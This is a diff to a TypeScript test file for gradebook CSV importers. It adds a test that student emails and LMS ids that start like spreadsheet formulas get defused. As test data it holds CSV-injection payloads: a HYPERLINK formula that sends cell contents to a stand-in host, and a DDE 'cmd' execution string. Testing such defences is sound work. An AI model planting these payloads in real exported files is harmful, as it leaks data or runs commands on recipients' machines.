@@ -3,6 +3,7 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
+import { defuse } from '../../src/domain/formula.ts';
 import {
   GRADEBOOKS,
   type Gradebook,
@@ -91,6 +92,11 @@ const IMPORTERS: Readonly<Record<Gradebook, (cells: Cells) => Imported>> = {
   generic: importGeneric,
 };
 
+/** Only what consists of more than letters, digits and `._+@-` can be changed. */
+function safeKey(text: string): string {
+  return /^[a-zA-Z0-9._+@-]*$/.test(text) ? text : defuse(text);
+}
+
 function numberOf(cell: string | undefined): number {
   assert.match(cell ?? '', /^\d+$/);
   return Number(cell);
@@ -110,7 +116,7 @@ describe('the file for', () => {
         const given = users.map(({ lmsId, ...rest }) => (byLmsId ? { ...rest, lmsId } : rest));
         const imported = IMPORTERS[gradebook](cellsOf(gradebook, { ...COLUMN, title, byLmsId }, given));
         const expected = users.map(({ lmsId, email, participationScore }) => ({
-          user: byLmsId ? lmsId : email,
+          user: safeKey(byLmsId ? lmsId : email),
           value: participationScore,
         }));
         assert.deepEqual(imported.graded, expected);
@@ -142,6 +148,27 @@ describe('the file for', () => {
         cells.filter((cell) => /^\s*[=+@-]/.test(cell)),
         [],
       );
+    }
+  });
+
+  it('has no addresses and ids that a spreadsheet would run, and leaves all others as they are', () => {
+    const keys = [
+      ['=HYPERLINK("http://x.example/?"&A1)', `'=HYPERLINK("http://x.example/?"&A1)`],
+      ["-2+cmd|' /C calc'!A0", "'-2+cmd|' /C calc'!A0"],
+      ['a,=1+1', "a,'=1+1"],
+      ...['+43-1-58801', '-5', '@ada', "o'brien@example.org", 'ada+=b@example.org'].map((key) => [key, key]),
+    ] as const;
+    for (const gradebook of GRADEBOOKS) {
+      for (const [key, cell] of keys) {
+        const byEmail = IMPORTERS[gradebook](cellsOf(gradebook, COLUMN, [{ ...ADA, email: key }]));
+        const byId = { ...ADA, email: 'x', lmsId: key };
+        const known = IMPORTERS[gradebook](cellsOf(gradebook, { ...COLUMN, byLmsId: true }, [byId]));
+        assert.deepEqual(
+          [byEmail, known].map(({ graded }) => graded[0]?.user),
+          [cell, cell],
+          gradebook,
+        );
+      }
     }
   });
 
